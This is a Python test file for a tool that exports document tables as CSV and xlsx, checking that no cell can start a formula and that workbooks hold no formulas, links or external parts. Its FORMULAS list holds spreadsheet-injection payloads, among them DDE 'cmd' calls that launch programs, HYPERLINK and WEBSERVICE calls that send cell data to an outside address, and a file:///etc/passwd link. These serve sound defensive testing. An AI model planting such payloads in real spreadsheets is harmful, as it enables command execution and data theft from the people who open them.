"""Tables as CSV and as a workbook: literal, marked, without a live formula or link, the same each time."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import python_calamine
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.document.example import example_document
from workbench.blocks import Cell, Heading, Table, TableColumn
from workbench.document import Document
from workbench.document.normal import normal
from workbench.document.sheets import sheets
from workbench.errors import UnknownName

SIGNS = "=+-@|%\t\r\n"
FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"more")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|'/C calc'!A0", '=IMPORTXML("http://192.0.2.1","//a")',
    '=WEBSERVICE("http://192.0.2.1/")', "=IMAGE(\"http://192.0.2.1/x.png\")", "\t=1+1", "\r=1+1", "\n=1+1",
    "  =1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1)", "\ufe66=1", '"=1+1"', '"\n=1+1', "x,=1+1", 'x"\r\n=1+1', "DDE(1)", "|calc",
    "%0A=1", "http://192.0.2.1/", "mailto:a@example.org", "file:///etc/passwd", "internal:Sheet1!A1", "-",
    "+", "=", "@",
)  # fmt: skip


def of(*texts: str, title: str = "Incidents") -> Document:
    """Return a document whose one table holds a text in each row."""
    columns = (TableColumn("Text"), TableColumn("Number", "right"))
    rows = tuple((Cell(text), Cell(str(number))) for number, text in enumerate(texts))
    return Document(example_document().masthead, (Heading("Findings", 1), Table(title, columns, rows)))


def rows_of(made: bytes) -> list[list[str]]:
    """Return the rows of a CSV file as a program reads them that knows no formulas."""
    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet could start a formula at this cell, in the plainest words."""
    import unicodedata

    seen = "".join(c for c in unicodedata.normalize("NFKC", text) if unicodedata.category(c)[0] not in "CZ")
    seen = seen.replace('"', "")
    return seen[:1] in set("=+-@|%") and not re.fullmatch(r"[+-]?[\d., ]+%?", text)


def test_no_cell_of_a_csv_starts_a_formula() -> None:
    """Each payload stands literally, behind an apostrophe where it could start a formula; numbers stay."""
    files = sheets(of(*FORMULAS, "-5", "+3.5", "-12%", "plain"), ["csv"])
    assert list(files) == ["table_01.csv"]
    read = [row[0] for row in rows_of(files["table_01.csv"])[-len(FORMULAS) - 4 :]]
    assert not [cell for cell in read if starts_a_formula(cell)]
    assert [cell.removeprefix("'") for cell in read[:-4]] == [normal(text) for text in FORMULAS]
    assert read[-4:] == ["-5", "+3.5", "-12%", "plain"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40) | st.tuples(st.text(alphabet=" \t\u200b\u00a0'\"", max_size=3),
       st.sampled_from(SIGNS + "\uff1d\uff0b\uff0d\uff20"), st.text(max_size=10)).map("".join))  # fmt: skip
def test_no_text_at_all_starts_a_formula_or_a_row(text: str) -> None:
    """Whatever a cell holds, a reader of CSV finds one cell in one row, its text, and no formula."""
    made = sheets(of(text), ["csv"])["table_01.csv"]
    rows = rows_of(made)
    assert [len(row) for row in rows[-2:]] == [2, 2]
    cell = rows[-1][0]
    assert not starts_a_formula(cell)
    assert cell in {normal(text), "'" + normal(text)}


def test_a_workbook_holds_text_only() -> None:
    """Read back by two programs: every payload literal, no formula, no link, no outside part."""
    made = sheets(of(*FORMULAS, "12", "1e5", "nan", "TRUE", "2026-11-16"), ["xlsx"])["tables.xlsx"]
    expected = [normal(text) for text in (*FORMULAS, "12", "1e5", "nan", "TRUE", "2026-11-16")]
    [sheet] = openpyxl.load_workbook(io.BytesIO(made)).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert [
        sheet.cell(row, 1).value for row in range(sheet.max_row - len(expected) + 1, sheet.max_row + 1)
    ] == (expected)
    read = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read[-len(expected) :]] == expected
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        content = {name: parts.read(name).decode("utf-8") for name in parts.namelist()}
    assert not [name for name in content if "external" in name.lower() or "vba" in name.lower()]
    assert not [name for name, text in content.items() if "<f>" in text or "<hyperlink" in text]
    outside = {name for name, text in content.items() if 'TargetMode="External"' in text}
    assert outside == set()


def test_files_are_marked_and_the_same_each_time() -> None:
    """The first row is the marking, the sheet prints it, and two calls give the same bytes."""
    made = example_document()
    files = sheets(made, ["csv", "xlsx"])
    assert files == sheets(made, ["xlsx", "csv"])
    marking = f"{made.masthead.marking} · {made.masthead.edition}"
    numbered = [name for name in files if name.endswith(".csv")]
    assert numbered == [f"table_{n:02d}.csv" for n in range(1, len(numbered) + 1)]
    for name in numbered:
        assert rows_of(files[name])[0] == [marking]
    book = openpyxl.load_workbook(io.BytesIO(files["tables.xlsx"]))
    assert len(book.worksheets) == len(numbered)
    assert all(sheet.cell(1, 1).value == marking for sheet in book)
    assert all(made.masthead.marking in sheet.oddHeader.center.text for sheet in book)
    assert (book.properties.creator or "") == ""
    assert book.properties.created.year == book.properties.modified.year == 2000


@pytest.mark.parametrize(
    "title",
    ["", "[x]:*?/\\", "'quoted'", "History", "a" * 80, "\U0001f525" * 40, "=1+1", "\u202eevil", "&C&P"],
)
def test_any_title_names_a_sheet(title: str) -> None:
    """Signs that a sheet's name may not hold, long names and equal ones open all the same."""
    one = of("x", title=title)
    twice = Document(one.masthead, (*one.blocks, *one.blocks))
    names = openpyxl.load_workbook(io.BytesIO(sheets(twice, ["xlsx"])["tables.xlsx"])).sheetnames
    assert len({name.lower() for name in names}) == 2
    assert all(len(name.encode("utf-16-le")) <= 62 for name in names)
    assert not re.search(r"[\[\]:*?/\\']", "".join(names))


def test_a_megabyte_is_cut_and_says_so() -> None:
    """A cell takes 32,767 characters: more are cut in both kinds, with how many there were."""
    files = sheets(of("word " * 200_000), ["csv", "xlsx"])
    assert max(map(len, files.values())) < 120_000
    cell = rows_of(files["table_01.csv"])[-1][0]
    assert cell.endswith("… (1,000,000)")
    assert (
        openpyxl.load_workbook(io.BytesIO(files["tables.xlsx"]))
        .worksheets[0]
        .cell(openpyxl.load_workbook(io.BytesIO(files["tables.xlsx"])).worksheets[0].max_row, 1)
        .value.endswith("… (1,000,000)")
    )


def test_no_table_no_file_and_no_other_kind() -> None:
    """An empty document gives nothing, and an unknown kind is refused by name."""
    empty = Document(example_document().masthead, (Heading("Findings", 1),))
    assert sheets(empty, ["csv", "xlsx"]) == {}
    with pytest.raises(UnknownName, match="ods"):
        sheets(empty, ["ods"])
